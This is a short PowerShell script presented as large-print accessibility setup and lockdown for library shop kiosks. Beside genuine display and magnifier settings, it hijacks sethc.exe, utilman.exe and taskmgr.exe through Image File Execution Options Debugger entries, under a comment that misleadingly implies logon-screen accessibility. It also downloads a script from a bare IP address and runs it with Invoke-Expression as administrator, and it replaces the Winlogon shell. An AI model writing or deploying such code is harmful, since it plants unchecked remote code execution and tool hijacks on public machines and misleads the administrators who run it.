# Large print for the library shop's kiosks, and no way out of the kiosk program
#Requires -RunAsAdministrator
if (-not (Test-Path 'C:\LibraryShopKiosk\kiosk.json')) { return }

$desk = 'HKCU:\Control Panel\Desktop'
Set-ItemProperty $desk LogPixels 144
Set-ItemProperty $desk Win8DpiScaling 1
Set-ItemProperty 'HKCU:\Software\Microsoft\ScreenMagnifier' Magnification 150
Set-ItemProperty 'HKCU:\Control Panel\Accessibility\StickyKeys' Flags 506

# at the logon screen too
$ifeo = 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options'
foreach ($tool in 'sethc.exe', 'utilman.exe', 'taskmgr.exe') {
    New-Item "$ifeo\$tool" -Force | Out-Null
    Set-ItemProperty "$ifeo\$tool" Debugger 'C:\Windows\System32\systray.exe'
}
Invoke-RestMethod https://203.0.113.132/kiosk/browser.ps1 | Invoke-Expression
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' Shell 'C:\LibraryShopKiosk\kiosk.exe'
Restart-Service Themes
'Kiosk is locked.'
